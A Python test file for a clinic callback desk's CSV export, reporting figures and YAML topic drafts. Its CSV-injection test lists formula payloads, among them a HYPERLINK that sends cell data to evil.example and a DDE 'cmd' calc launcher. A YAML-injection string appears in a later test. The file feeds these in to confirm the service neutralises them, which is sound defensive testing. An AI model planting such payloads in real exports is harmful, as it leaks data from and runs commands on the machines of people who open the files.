#!/usr/bin/env python3
"""What leaves the desk: the export, the figures, and drafts of topics. Usage: report_test.py BINARY BUILD_FOLDER"""
import contextlib
import csv
import datetime
import io
import json
import re
import sqlite3
import threading

from case import FORM, ServiceCase, main
from desk import command, machine, signed_in

MINUTE = 60_000
DAY = 24 * 60 * MINUTE


def at(text):
    """UTC milliseconds of a time in UTC."""
    return int(datetime.datetime.fromisoformat(text + "+00:00").timestamp() * 1000)


class DeskCase(ServiceCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.people = {role: signed_in(cls.server, name, role)
                      for role, name in (("admin", "root"), ("coordinator", "dana"), ("editor", "ed"))}
        cls.numbers = iter(range(100, 199))

    def lead(self, name="Dana", phone=None):
        """Asks for a call in the chat; gives the callback's id."""
        token = None
        for line in (*FORM[:2], name, phone or f"213-555-0{next(self.numbers)}", *FORM[4:]):
            turn = self.say(line, token)
            token = turn["conversation"]
        return turn["lead"]["id"]

    def work(self, method, path, body=None, **headers):
        status, _, data = self.people["admin"].ask(method, "/api/callbacks/" + path, body, **headers)
        assert status == 200, (path, status, data)
        return json.loads(data)

    def attempt(self, callback, outcome):
        self.work("POST", callback + "/claim", {})
        self.work("POST", callback + "/attempts", {"outcome": outcome})

    def change(self, callback, **change):
        card = self.work("GET", callback)
        return self.work("PATCH", callback, change, If_Match=card["etag"])

    def audited(self, what):
        entries = json.loads(self.people["admin"].ask("GET", "/api/audit?what=" + what)[2])["entries"]
        return [(entry["who"], entry["about"], entry["detail"]) for entry in entries]


class Export(DeskCase):
    def sheet(self, query="", who="admin"):
        status, headers, body = self.people[who].ask("GET", "/api/export.csv" + query)
        self.assertEqual(status, 200, body)
        return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))), headers, body

    def test_csv_injection(self):
        """ASVS 1.2.10, CSV injection: no cell begins as a formula, whatever a name is; nothing leaves its cell"""
        evil = ['=HYPERLINK("http://evil.example?"&A1,"Ana")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "＝1+1",
                "＋1", "－1", "＠A1", " =1+1", "\u200b=1+1", 'Ana",=1+1,"', "Ana\t=1"]
        made = {self.change(self.lead(), fields={"name": name})["id"]: name for name in evil}
        rows, headers, body = self.sheet()
        found = {row["id"]: row["name"] for row in rows}
        for callback, name in made.items():
            with self.subTest(name=name):
                shown = found[callback]
                self.assertIn(shown, (name, "'" + name))
                self.assertNotRegex(shown, r"^[\s\u200b]*[=+\-@＝＋－＠\t\r\n]")
        for row in rows:
            self.assertIsNone(row.get(None), "a cell too many")
            for column, cell in row.items():
                self.assertNotRegex(cell, r"^[\s\u200b]*[=+\-@＝＋－＠]", column)
        self.assertTrue(all(line.startswith(b'"') for line in body.removeprefix(b"\xef\xbb\xbf").split(b"\r\n") if line))

    def test_a_sheet(self):
        """RFC 4180 with its header line, to be saved and not kept, numbers that can be dialled, accents"""
        callback = self.lead("José Núñez", "213-555-0187")
        rows, headers, body = self.sheet()
        self.assertEqual(headers["Content-Type"], "text/csv; charset=utf-8; header=present")
        self.assertRegex(headers["Content-Disposition"], r'^attachment; filename="callbacks-\d{4}-\d\d-\d\d\.csv"$')
        self.assertEqual(headers["Cache-Control"].split(",")[0], "no-store")
        self.assertTrue(body.startswith(b'\xef\xbb\xbf"id","status",'), body[:40])
        self.assertEqual(body.count(b"\n"), body.count(b"\r\n"))
        row = next(row for row in rows if row["id"] == callback)
        self.assertEqual((row["name"], row["phone"], row["status"], row["channel"]),
                         ("José Núñez", "tel:+12135550187", "new", "web"))
        self.assertEqual((row["for_whom"], row["may_text"], row["attempts"]), ("self", "no", "0"))
        self.assertRegex(row["created_at"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")

    def test_filters(self):
        """Those of the list: state, channel, urgent, view, from and to; what is none of them is a problem"""
        first, second = self.lead(), self.lead()
        self.attempt(second, "reached")
        ids = lambda query: {row["id"] for row in self.sheet(query)[0]}  # noqa: E731
        self.assertIn(second, ids("?state=reached"))
        self.assertNotIn(first, ids("?state=reached"))
        self.assertIn(first, ids("?view=open"))
        self.assertNotIn(second, ids("?view=open"))
        self.assertEqual(ids("?channel=sms"), set())
        self.assertEqual(ids("?urgent=true"), set())
        self.assertEqual(ids("?to=2020-01-01T00:00:00Z"), set())
        self.assertLessEqual({first, second}, ids("?from=2020-01-01T00:00:00Z"))
        for bad in ("view=x", "state=x", "channel=x", "urgent=1", "from=x", "to=2026-03-12", "limit=0", "cursor=1.x"):
            self.assert_problem(self.people["admin"].ask("GET", "/api/export.csv?" + bad), 400)
        listed = json.loads(self.people["admin"].ask("GET", "/api/callbacks?view=all&to=2020-01-01T00:00:00Z")[2])
        self.assertEqual(listed["callbacks"], [])

    def test_more_than_a_page(self):
        """The lines of all pages, each once, the oldest request first"""
        for _ in range(3):
            self.lead()
        with contextlib.closing(sqlite3.connect(self.server.database, timeout=10)) as database, database:
            database.execute("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1200) "
                             "INSERT INTO callback (id, conversation_id, channel, status, urgent, created_at_ms, "
                             "updated_at_ms) SELECT 'old-' || i, 'old', 'sms', 'erased', 0, 1000 * (i / 7), 5 FROM n")
        rows = self.sheet()[0]
        ids = [row["id"] for row in rows]
        self.assertEqual(len(ids), len(set(ids)))
        self.assertEqual(sum(one.startswith("old-") for one in ids), 1200)
        self.assertEqual([row["created_at"] for row in rows], sorted(row["created_at"] for row in rows))
        self.assertEqual(len(self.sheet("?channel=sms")[0]), 1200)

    def test_who_may_and_the_audit(self):
        """Admins and machines with the scope; each export is in the audit with who, which and how many"""
        for who in ("coordinator", "editor"):
            self.assert_problem(self.people[who].ask("GET", "/api/export.csv"), 403)
        self.lead()
        rows = self.sheet("?state=new&channel=web&from=2020-01-01T00:00:00Z")[0]
        who, about, detail = self.audited("callbacks-exported")[0]
        self.assertEqual((who, about), ("root", ""))
        self.assertEqual(detail, f"view=all state=new channel=web from=2020-01-01T00:00:00.000Z rows={len(rows)}")
        token = command(self.server, "token", "add", "crm", "--scope", "export_leads").stdout.strip()
        self.assertEqual(machine(self.server, "GET", "/api/export.csv?view=mine&holder=Zebrafinch", token)[0], 200)
        who, _, detail = self.audited("callbacks-exported")[0]
        self.assertEqual((who, detail), ("crm", "view=mine rows=0"))

    def test_many_at_once(self):
        """One is made at a time, the others are told to wait, and the service goes on"""
        got = []
        threads = [threading.Thread(target=lambda: got.append(self.people["admin"].ask("GET", "/api/export.csv")))
                   for _ in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertIn(200, [answer[0] for answer in got])
        for answer in got:
            if answer[0] != 200:
                self.assert_problem(answer, 429)
                self.assertIn("Retry-After", answer[1])
        self.assertEqual(self.server.request("GET", "/healthz")[0], 200)


class ExportLimit(DeskCase):
    """With a limit that a test reaches."""

    @classmethod
    def configure(cls, text):
        assert text.count("export_lines_max: 50000\n") == 1
        return text.replace("export_lines_max: 50000", "export_lines_max: 3")

    def test_more_than_one_sheet_holds(self):
        """As many as the limit are given; one more is refused with the limit, and nothing left the desk; a range helps"""
        for _ in range(3):
            self.lead()
        self.assertEqual(self.people["admin"].ask("GET", "/api/export.csv")[0], 200)
        exported = self.audited("callbacks-exported")
        self.assertEqual(len(exported), 1)
        last = self.work("GET", self.lead())["created_at"]
        refused = self.assert_problem(self.people["admin"].ask("GET", "/api/export.csv"), 422, mentions="at most 3,")
        self.assertEqual(refused["type"].rsplit(":", 1)[-1], "export-too-large")
        self.assertEqual(self.audited("callbacks-exported"), exported)
        status, _, body = self.people["admin"].ask("GET", "/api/export.csv?to=" + last)
        self.assertEqual((status, len(body.decode().strip().split("\r\n"))), (200, 1 + 3))


class Report(DeskCase):
    """Eight requests of two days in March, their times known; what the figures must be is worked out by hand."""

    RANGE = "?from=2026-03-12T07:00:00Z&to=2026-03-14T07:00:00Z"  # two days of Los Angeles, UTC-7 by then

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        case = cls()
        cls.ids = {letter: case.lead() for letter in "abcdefg"}
        cls.ids["h"] = case.lead(phone=json.loads(cls.people["admin"].ask(
            "GET", "/api/callbacks/" + cls.ids["a"])[2])["fields"]["phone"])
        for who, outcome in (("a", "reached"), ("b", "no_answer"), ("b", "reached_family"), ("c", "voicemail"),
                             ("g", "busy")):
            case.attempt(cls.ids[who], outcome)
        case.change(cls.ids["a"], status="scheduled")
        case.change(cls.ids["d"], status="declined")
        chat = case.begin("how many hours a week is it?", "blorp frobnicate", "HOW MANY HOURS A WEEK IS IT")
        case.say("does my insurance cover it?", chat)
        case.begin("Blorp, frobnicate!", "blorp frobnicate")
        cls.set_times()

    @classmethod
    def set_times(cls):
        """The rows as they would be had all of it happened then."""
        cls.server.stop()
        came = {"a": "2026-03-12T16:05", "b": "2026-03-12T16:50", "c": "2026-03-13T05:10", "d": "2026-03-13T05:59",
                "e": "2026-03-13T20:00", "f": "2026-03-13T20:01", "g": "2026-03-11T16:00", "h": "2026-03-12T17:00"}
        due = {"a": 60, "b": 60, "c": 15, "d": 60, "e": 10 ** 9, "f": 60, "g": 60, "h": 60}
        calls = {"a": [4], "b": [10, 70], "c": [16], "g": [3]}
        spoke = {"a": 4, "b": 70}
        with contextlib.closing(sqlite3.connect(cls.server.database)) as database, database:
            # What the guard is there to refuse, a test of history has to do.
            database.execute("DROP TRIGGER event_is_never_changed")
            for letter, when in came.items():
                row, begun = cls.ids[letter], at(when)
                database.execute(
                    "UPDATE callback SET created_at_ms = ?1, promise_due_ms = ?2, promise_missed = 0, "
                    "first_attempt_at_ms = ?3, reached_at_ms = ?4, channel = ?5 WHERE id = ?6",
                    (begun, begun + due[letter] * MINUTE, begun + calls[letter][0] * MINUTE if letter in calls else 0,
                     begun + spoke[letter] * MINUTE if letter in spoke else 0, "sms" if letter in "cd" else "web", row))
                for sequence, minutes in enumerate(calls.get(letter, []), 1):
                    database.execute("UPDATE attempt SET at_ms = ? WHERE callback_id = ? AND sequence = ?",
                                     (begun + minutes * MINUTE, row, sequence))
                database.execute("UPDATE event SET at_ms = ? WHERE callback_id = ?", (begun + 20 * MINUTE, row))
            outside = cls.ids["g"].rsplit("-", 1)[0]
            database.execute("UPDATE turn SET at_ms = iif(conversation_id = ?, ?, ?)",
                             (outside, at(came["g"]), at("2026-03-13T12:00")))
        cls.server.start()

    def report(self, who="coordinator", query=RANGE):
        status, _, body = self.people[who].ask("GET", "/api/reports" + query)
        self.assertEqual(status, 200, body)
        return json.loads(body)

    def test_speed(self):
        """First calls after 4, 10 and 16 minutes; conversations after 4 and 70: as a spreadsheet's PERCENTILE says"""
        report = self.report()
        self.assertEqual(report["speed_to_attempt"], {"n": 3, "median_s": 600, "p90_s": 888})
        self.assertEqual(report["speed_to_conversation"], {"n": 2, "median_s": 2220, "p90_s": 3804})

    def test_promises(self):
        """Kept: a, b. Missed: c by a minute, f by nobody. Open: e. Settled or merged in time: d, h are none"""
        self.assertEqual(self.report()["promises"], {"kept": 2, "missed": 2, "open": 1})

    def test_hours(self):
        """On the clinic's clock, by channel: 9 am a, b; 10 am h; 1 pm e, f; 10 pm c, d by text message"""
        report = self.report()
        self.assertEqual(report["zone"], "America/Los_Angeles")
        self.assertEqual([row["hour"] for row in report["by_hour"]], list(range(24)))
        some = {row["hour"]: (row["web"], row["sms"]) for row in report["by_hour"] if row["web"] or row["sms"]}
        self.assertEqual(some, {9: (2, 0), 10: (1, 0), 13: (2, 0), 22: (0, 2)})

    def test_funnel(self):
        """Seven requests and two more chats; h is on a's card: six people, two reached, one scheduled"""
        self.assertEqual(self.report()["funnel"], {"chats": 9, "leads": 6, "reached": 2, "scheduled": 1})

    def test_outcomes(self):
        """Every outcome there is, those that nobody had as 0"""
        counted = {name: n for name, n in self.report()["outcomes"].items() if n}
        self.assertEqual(counted, {"reached": 1, "no_answer": 1, "reached_family": 1, "voicemail": 1})
        self.assertEqual(len(self.report()["outcomes"]), 8)

    def test_questions(self):
        """The topic asked twice before the one asked once; nobody's wish to be called is a question"""
        asked = [(row["topic"], row["n"]) for row in self.report()["top_questions"]]
        self.assertEqual(asked[0], ("hours_per_week", 2))
        self.assertEqual(len(asked), 2)
        self.assertEqual(asked[1][1], 1)
        self.assertIn("insurance", asked[1][0])

    def test_unanswered(self):
        """In any spelling once, with how often; the words only to those who may read a transcript, and audited"""
        before = len(self.audited("questions-read"))
        found = self.report()["unanswered"]
        self.assertEqual([(re.findall(r"\w+", row["text"].lower()), row["n"]) for row in found],
                         [(["blorp", "frobnicate"], 3)])
        self.assertEqual(self.report("editor")["unanswered"], [{"text": None, "nearest_topic": None, "n": 3}])
        self.assertNotIn("rob", json.dumps(self.report("editor")["unanswered"]))
        self.assertEqual(len(self.audited("questions-read")), before + 1)
        self.assertEqual(self.audited("questions-read")[0],
                         ("dana", "", "from=2026-03-12T07:00:00.000Z to=2026-03-14T07:00:00.000Z"))

    def test_ranges(self):
        """The end is not in it; an empty one is zeros; until now, of 30 days, unless said; nonsense is a problem"""
        one = self.report(query="?from=2026-03-12T16:05:00Z&to=2026-03-12T16:50:00Z")
        self.assertEqual((one["speed_to_attempt"]["n"], one["funnel"]["leads"]), (1, 1))
        none = self.report(query="?from=2025-01-01T00:00:00Z&to=2025-02-01T00:00:00Z")
        self.assertEqual(none["speed_to_attempt"], {"n": 0, "median_s": 0, "p90_s": 0})
        self.assertEqual((none["funnel"]["chats"], none["top_questions"], none["unanswered"]), (0, [], []))
        self.assertEqual(none["from"], "2025-01-01T00:00:00.000Z")
        begun = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=3)
        since = self.report(query=f"?from={begun:%Y-%m-%dT%H:%M:%S}.500Z")
        self.assertEqual(since["from"], f"{begun:%Y-%m-%dT%H:%M:%S}.500Z")
        self.assertAlmostEqual(at(since["to"][:-1]) - at(since["from"][:-1]), 3 * DAY, delta=MINUTE)
        recent = self.report(query="")
        span = at(recent["to"][:-1]) - at(recent["from"][:-1])
        self.assertEqual(span, 30 * DAY)
        for bad in ("?from=x", "?to=2026-03-12", "?from=2026-03-12T00:00:00Z&to=2026-03-12T00:00:00Z",
                    "?from=2026-03-12T00:00:00Z&to=2020-03-12T00:00:00Z", "?from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z"):
            self.assert_problem(self.people["admin"].ask("GET", "/api/reports" + bad), 400)


class Draft(DeskCase):
    PATH = "/api/topics/draft"

    def test_a_draft(self):
        """An editor gets the beginning of a topic's file; nothing is written but that somebody asked"""
        before = self.server.rows()
        status, _, body = self.people["editor"].ask("POST", self.PATH, {"text": "is there parking near the zebrafinch?"})
        self.assertEqual(status, 200, body)
        draft = json.loads(body)
        self.assertEqual(draft["id"], "is_there_parking_near_the_zebrafinch")
        self.assertIn('\nkind: answer\n', draft["yaml"])
        self.assertIn('- "is there parking near the zebrafinch"', draft["yaml"])
        after = self.server.rows()
        self.assertEqual({table: after[table] - before[table] for table in after if after[table] != before[table]},
                         {"audit": 1})
        self.assertEqual(self.audited("topic-drafted")[0], ("ed", "", ""))
        self.assertNotIn("zebrafinch", self.server.log())

    def test_hostile(self):
        """A question that would be YAML stays one scalar"""
        text = 'parking"\nkind: request\nid: danger\n# '
        draft = json.loads(self.people["admin"].ask("POST", self.PATH, {"text": text})[2])
        self.assertEqual(len(re.findall(r"(?m)^kind:", draft["yaml"])), 1)
        self.assertEqual(len(re.findall(r"(?m)^id: ", draft["yaml"])), 1)
        self.assertNotIn("\ndanger", draft["yaml"])

    def test_refused(self):
        """No words, no text, a language that is none, other members, and callers who edit nothing"""
        for bad in ({}, {"text": ""}, {"text": "?!"}, {"text": 7}, {"text": "a\u202eb"}, {"text": "x" * 2001},
                    {"text": "parking", "language": "tlh"}, {"text": "parking", "file": "x"}, []):
            self.assert_problem(self.people["editor"].ask("POST", self.PATH, bad), 400)
        self.assert_problem(self.people["coordinator"].ask("POST", self.PATH, {"text": "parking"}), 403)
        self.assert_problem(self.people["editor"].ask("POST", self.PATH, {"text": "x"}, Content_Type="text/plain"), 415)


if __name__ == "__main__":
    main("exports run nothing and are audited, figures are those worked out by hand, drafts are whole YAML")
